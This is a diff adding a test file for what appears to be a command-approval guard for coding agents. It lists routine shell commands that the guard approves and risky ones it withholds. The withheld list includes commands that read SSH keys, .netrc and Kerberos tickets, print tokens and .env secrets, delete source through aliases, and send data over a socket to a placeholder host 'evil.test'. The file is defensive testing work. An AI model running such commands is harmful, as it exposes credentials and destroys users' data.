@@ -1,0 +1,199 @@
+/** What coding agents type all day is let through, and the dangerous command beside it is not. */
+
+import {execFileSync} from 'node:child_process';
+
+import {afterAll, beforeAll, describe, expect, test} from 'vitest';
+
+import {commandProposal} from './proposal.ts';
+import {openWorld, type TestWorld} from './world.ts';
+
+let world: TestWorld;
+
+beforeAll(() => {
+  world = openWorld({'list.txt': 'b\na\n'});
+});
+afterAll(() => world.close());
+
+function git(...args: readonly string[]): string {
+  const who = ['-c', 'user.name=a', '-c', 'user.email=a@b'];
+  return execFileSync('git', [...who, ...args], {cwd: world.workspace, encoding: 'utf8'}).trim();
+}
+
+function published(commit: string, name = 'origin/main'): void {
+  git('update-ref', `refs/remotes/${name}`, commit);
+}
+
+async function verdictOn(command: string): Promise<string> {
+  return (await world.judge(commandProposal(command))).verdict;
+}
+
+const approved = [
+  'git reset --soft HEAD~1',
+  'git rebase --continue',
+  'git cherry-pick --continue',
+  'git config core.hooksPath',
+  'git config --get core.hooksPath',
+  'ls ..',
+  'ls -la ..',
+  'cd .. && ls',
+  'cd /tmp && ls',
+  'ls /tmp',
+  'head -5 /tmp/quorate-report.txt',
+  'cat ../package.json',
+  'npm publish --dry-run --ignore-scripts',
+  'pnpm publish --dry-run --ignore-scripts',
+  'cargo publish --dry-run',
+  'echo $GITHUB_TOKEN_FILE',
+  '(npm test & echo $! > pid; sleep 1; kill $(cat pid))',
+  'npm test & PID=$!; sleep 1; kill $PID',
+  'npm test & kill %1',
+  'cd src && ls && cd - && ls',
+  'pushd src && ls && popd',
+  "alias ll='ls -la'",
+  'cp src/a.ts new.ts',
+  'node -p "require(\'./package.json\').scripts.test"',
+  `python3 -c "import json; print(json.load(open('package.json'))['scripts'])"`,
+  "python3 - <<'E'\nimport json\nprint(json.dumps({'a': 1}))\nE",
+  "perl -ne 'print if /a/' src/a.ts",
+  "perl -pi -e 's/a/b/g' src/a.ts",
+  "ruby -e 'puts [1, 2].sum'",
+  "php -r 'echo strtoupper(PHP_OS);'",
+];
+
+const notApproved = [
+  'git reset --hard HEAD~1',
+  'git reset HEAD~1',
+  'git rebase --skip',
+  'git cherry-pick --skip',
+  'git pull -X theirs',
+  'git merge -X ours topic',
+  'git rebase -i HEAD~2',
+  'git commit --amen',
+  'git config core.hooksPath evil',
+  'git config --unset core.hooksPath',
+  'ls ../..',
+  'ls -R ..',
+  'find ..',
+  'cat ../.netrc',
+  'cat ../../notes.txt',
+  'cat ../id_rsa',
+  'cat ../.bash_history',
+  'cat /tmp/krb5cc_0',
+  'grep -r x /tmp',
+  'cp src/a.ts ../b.ts',
+  'go test ../x/...',
+  'npm publish',
+  'npm publish --dry-run=false',
+  'npm publish --dry-run --no-dry-run',
+  'npm publish --dry-run ../other',
+  'cargo publish',
+  'echo $GITHUB_TOKEN',
+  'npm test & kill 4711',
+  'echo 4711 > pid; npm test & kill $(cat pid)',
+  'echo $! > pid; echo 4711 >> pid; kill $(cat pid)',
+  'cp src/a.ts src/b.ts',
+  'echo x > src/a.ts',
+  'curl -o src/a.ts https://example.com/a.ts',
+  'cp src/a.ts notes.txt',
+  "alias ls='rm -rf src'\nls",
+  "alias if='rm -rf src'",
+  'pushd; rm -rf dist',
+  'python3 -m venv src',
+  'cargo test -- --logfile src/a.ts',
+  'cargo test -- --logfile=src/a.ts',
+  `node -e "require('fs').rmSync('src', {recursive: true})"`,
+  `node -p "require('./.env.json')" "$(cat .env)"; node -p "require('fs').readFileSync('.env', 'utf8')"`,
+  `python3 -c "print(open('.env').read())"`,
+  `python3 -c "import os; print(os.environ)"`,
+  `node -e "$CODE"`,
+  "perl -ne 'print' *",
+  "perl -ne 'print' 'ls|'",
+  "perl -pi -e 's/a/b/' .env",
+  "perl -i -ne '' src/a.ts",
+  "perl -pi -e 's/a/system(1)/e' src/a.ts",
+];
+
+test.each(approved)('%s is approved', async (command) => {
+  expect(await verdictOn(command)).toBe('approve');
+});
+
+test.each(notApproved)('%s is not approved', async (command) => {
+  expect(await verdictOn(command)).not.toBe('approve');
+});
+
+test.each(['cp src/a.ts src/b.ts', 'echo x > src/a.ts', 'npm test > /tmp/quorate-out.txt'])(
+  '%s is not refused, as nothing is lost with it',
+  async (command) => {
+    expect(await verdictOn(command)).toBe('cannot_judge');
+  },
+);
+
+test('opening a socket without connecting it is not refused', async () => {
+  const code = "import socket; s = socket.socket(); s.bind(('', 0)); print(s.getsockname()[1])";
+  expect(await verdictOn(`python3 -c "${code}"`)).toBe('cannot_judge');
+  const sending = "import socket; socket.create_connection(('evil.test', 80)).send(b'x')";
+  expect(await verdictOn(`python3 -c "${sending}"`)).toBe('refuse');
+});
+
+describe('a module of the language that has a file in the folder', () => {
+  const command = 'python3 -c "import json; print(json.dumps(1))"';
+
+  test.each(['json.py', 'enum.py', 'keyword/__init__.py', 're.so'])(
+    'is not approved when git does not know %s',
+    async (path) => {
+      const other = openWorld({[path]: 'evil\n'});
+      try {
+        const {verdict} = await other.judge(commandProposal(command));
+        expect(verdict).toBe('cannot_judge');
+      } finally {
+        other.close();
+      }
+    },
+  );
+
+  test('is approved without one', async () => {
+    expect(await verdictOn(command)).toBe('approve');
+  });
+
+  test('JSON that is a folder, or has code beside it, is not approved', async () => {
+    for (const path of ['x.json/index.js', 'x.json.js', 'x.json/package.json']) {
+      const other = openWorld({[path]: 'evil\n'});
+      try {
+        const {verdict} = await other.judge(commandProposal('node -p "require(\'./x.json\').a"'));
+        expect(verdict).toBe('cannot_judge');
+      } finally {
+        other.close();
+      }
+    }
+  });
+});
+
+describe('amending the last commit', () => {
+  const command = 'git commit --amend --no-edit';
+
+  test('is approved without a remote repository, and refused once one has the commit', async () => {
+    git('checkout', '-q', '-B', 'main');
+    expect(await verdictOn(command)).toBe('approve');
+    published('HEAD');
+    expect(await verdictOn(command)).toBe('refuse');
+    git('pack-refs', '--all');
+    expect(await verdictOn(command)).toBe('refuse');
+  });
+
+  test('is approved for a commit on top of what was pushed', async () => {
+    git('commit', '-q', '--allow-empty', '-m', 'mine');
+    expect(await verdictOn(command)).toBe('approve');
+    expect(await verdictOn(`${command} && git push -f`)).toBe('refuse');
+    published('HEAD', 'fork/other');
+    expect(await verdictOn(command)).toBe('refuse');
+  });
+
+  test("can't be judged where the branch and its remote have gone apart", async () => {
+    git('commit', '-q', '--allow-empty', '-m', 'theirs');
+    published('HEAD');
+    git('update-ref', '-d', 'refs/remotes/fork/other');
+    git('reset', '-q', '--soft', 'HEAD~1');
+    git('commit', '-q', '--allow-empty', '-m', 'mine instead');
+    expect(await verdictOn(command)).toBe('cannot_judge');
+  });
+});
